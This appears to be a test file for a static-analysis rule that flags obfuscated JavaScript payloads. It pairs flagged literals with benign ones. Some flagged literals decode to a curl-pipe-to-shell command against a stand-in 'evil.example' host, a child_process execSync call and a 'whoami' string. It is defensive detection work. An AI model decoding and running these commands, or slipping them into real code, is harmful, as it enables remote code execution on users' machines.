// Literals that decode to hidden text become virtual files; plain data does not.
// ruleid: js-decoded-payload
const stage = atob("Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zLnNoIHwgc2g=");
// ruleid: js-decoded-payload
const cmd = String.fromCharCode(119, 104, 111, 97, 109, 105);
// ruleid: js-decoded-payload
const name = "\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73";
// ruleid: js-decoded-payload
const blob = "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp";
// ruleid: js-decoded-payload
const rev = "hs.x/elpmaxe.live//:sptth".split("").reverse().join("");

// ok: js-decoded-payload
const pixel = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
// ok: js-decoded-payload
const greeting = "Welcome to the Acme ticket helper, have a nice day";
// ok: js-decoded-payload
const id = "3f1c2a9e-0000-4000-8000-000000000000";
// ok: js-decoded-payload
const encoded = Buffer.from(text, "utf8").toString("base64");
